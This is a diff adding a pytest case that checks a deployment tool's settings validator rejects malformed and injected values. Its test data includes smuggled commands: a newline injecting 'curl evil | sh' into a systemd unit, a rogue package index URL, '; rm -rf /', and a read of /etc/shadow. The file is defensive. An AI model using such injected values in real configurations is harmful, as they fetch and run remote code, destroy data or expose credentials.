@@ -159,3 +159,33 @@ def test_unreachable_hub_is_one_line_not_a_traceback(fake_plan):
     assert rc != 0
     assert "cannot reach http://127.0.0.1:1 to check model_repo" in out and "check hf_endpoint" in out
     assert "Traceback" not in out
+
+
+@pytest.mark.parametrize("data,message", [
+    ({"vllm_served_model_name": "llama\nExecStartPre=/bin/sh -c 'curl evil | sh'"},
+     "vllm_served_model_name contains a control character ('\\n')"),
+    ({"openwebui_admin_email": "admin@home.arpa\tx"}, "openwebui_admin_email contains a control character ('\\t')"),
+    ({"pip_find_links": ["/opt/wheels\n--index-url http://evil"]}, "pip_find_links contains a control character"),
+    ({"vllm_exclude_newer_package": {"x": "2026-01-01\r"}}, "vllm_exclude_newer_package contains a control character"),
+    ({"uv_version": "latest"}, "uv_version: Value error, 'latest' is not an exact release version"),
+    ({"router_litellm_version": "x"}, "router_litellm_version: Value error, 'x' is not an exact release version"),
+    ({"openwebui_version": ">=0.12"}, "openwebui_version: Value error, '>=0.12' is not an exact release version"),
+    ({"nvidia_driver_branch": 9999}, "nvidia_driver_branch: Value error, 9999 is not one of Ubuntu's -server driver"),
+    ({"nvidia_driver_branch": 590}, "590-server is a transitional package to 595-server on Ubuntu (LP #2146602)"),
+    ({"container_toolkit_version": "1.17.8-1; rm -rf /"}, "is not a Debian package version (e.g. 1.17.8-1)"),
+    ({"http_proxy": "proxy.lan:3128"}, "http_proxy: Value error, 'proxy.lan:3128' is not an http(s) proxy URL"),
+    ({"ca_bundle": "ca.crt"}, "ca_bundle: Value error, 'ca.crt' is not an absolute file path on the host"),
+    ({"data_root": "/home/me/llmhost"}, "data_root: Value error, '/home/me/llmhost' is inside a user's home"),
+    ({"install_root": "/opt/llm host"}, "has characters a unit path cannot carry as is"),
+    ({"openwebui_admin_email": "admin"}, "openwebui_admin_email: Value error, 'admin' is not an email address"),
+    ({"openwebui_admin_password_env": "MY-PASSWORD"}, "openwebui_admin_password_env: String should match pattern"),
+    ({"vllm_tool_call_parser": "llama3_json --chat-template /etc/shadow"},
+     "vllm_tool_call_parser: String should match pattern"),
+])
+def test_strings_that_reach_units_and_shells_are_refused_by_shape(data, message):
+    """Issue 20 part 5: each refused before anything touches a host, with one line naming the setting."""
+    from operations.settings import Settings, SettingsError
+
+    with pytest.raises(SettingsError) as err:
+        Settings.from_host_data(data)
+    assert message in str(err.value) and "\n" not in str(err.value).rstrip("\n").split(": ", 1)[0]
